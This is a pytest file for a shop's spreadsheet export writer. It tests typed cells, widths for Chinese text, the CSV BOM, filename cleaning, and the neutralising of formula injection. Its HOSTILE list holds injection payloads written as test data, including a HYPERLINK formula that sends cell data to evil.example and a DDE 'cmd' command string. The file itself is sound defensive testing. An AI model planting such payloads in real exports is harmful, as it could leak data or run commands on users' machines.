"""The one export writer (shop.sheets): typed cells, widths, BOM, and formula injection disarmed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from shop import clock
from shop.sheets import Column, Sheet, filename, neutral_text, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(rows) -> Sheet:
    return Sheet(
        "清单",
        [
            Column("品名"),
            Column("数量", "int"),
            Column("金额（元）", "money"),
            Column("日期", "date"),
            Column("时间", "datetime"),
        ],
        rows,
    )


def _book(sheet: Sheet):
    return openpyxl.load_workbook(io.BytesIO(to_xlsx([sheet])))


def test_numbers_dates_and_money_are_typed_cells_not_text():
    moment = dt.datetime(2026, 11, 30, 17, 5, tzinfo=dt.UTC)  # 01:05 on 1 Dec in Shanghai
    ws = _book(_sheet([["洗衣液", 3, 12.5, dt.date(2026, 11, 30), moment]]))["清单"]
    name, qty, money, day, at = ws[2]
    assert [c.value for c in ws[1]] == ["品名", "数量", "金额（元）", "日期", "时间"]
    assert qty.value == 3 and qty.data_type == "n"
    assert money.value == 12.5 and money.number_format == "#,##0.00"
    assert day.is_date and day.value.date() == dt.date(2026, 11, 30)
    assert at.is_date and at.value == dt.datetime(2026, 12, 1, 1, 5)  # the village's clock
    assert name.data_type == "s"
    assert ws.freeze_panes == "A2"


def test_column_widths_fit_chinese_text():
    ws = _book(_sheet([["一二三四五六七八九十一二三四五", 1, 1, None, None]]))["清单"]
    assert ws.column_dimensions["A"].width >= 30  # fifteen Hanzi, two columns each
    assert 6 <= ws.column_dimensions["B"].width < 15


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_lead_is_disarmed_in_xlsx_and_csv(text):
    sheet = _sheet([[text, 1, None, None, None]])
    cell = _book(sheet)["清单"]["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'")
    raw = to_xlsx([sheet])
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        assert all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets"))
    rows = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8-sig"))))
    assert rows[1][0].startswith("'")
    assert rows[1][0][1:].lstrip("\t\r ").startswith(("=", "+", "-", "@"))


def test_ordinary_text_is_left_alone_and_a_header_is_neutralised_too():
    assert neutral_text("洗衣液 2kg") == "洗衣液 2kg"
    assert neutral_text("=1") == "'=1"
    sheet = Sheet("t", [Column("=cmd")], [["a-b"]])
    rows = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8-sig"))))
    assert rows == [["'=cmd"], ["a-b"]]


def test_control_characters_never_stop_a_file_from_being_written():
    name = "洗衣\x1b[2J液\x00\x07"
    ws = _book(_sheet([[name, 1, None, None, None]]))["清单"]
    assert ws["A2"].value == "洗衣\ufffd[2J液\ufffd\ufffd"
    assert "\x1b" not in to_csv(_sheet([[name, 1, None, None, None]])).decode("utf-8-sig")


def test_csv_is_utf8_with_bom_and_typed_values_written_plainly():
    moment = dt.datetime(2026, 5, 1, 2, 0, tzinfo=dt.UTC)
    raw = to_csv(_sheet([["肥皂", 2, 1234.5, dt.date(2026, 5, 1), moment]]))
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    local = clock.local(moment).strftime("%Y-%m-%d %H:%M")
    assert rows[1] == ["肥皂", "2", "1234.50", "2026-05-01", local]


def test_a_row_of_the_wrong_length_or_a_text_in_a_number_column_is_a_programming_error():
    with pytest.raises(ValueError):
        to_csv(_sheet([["a", 1]]))
    with pytest.raises(TypeError):
        to_csv(_sheet([["a", "3", None, None, None]]))


def test_download_names_lose_quotes_and_line_breaks():
    assert filename('a"b\r\nc/../d', "xlsx") == "a-b--c-..-d.xlsx"
    assert filename("", "csv") == "export.csv"
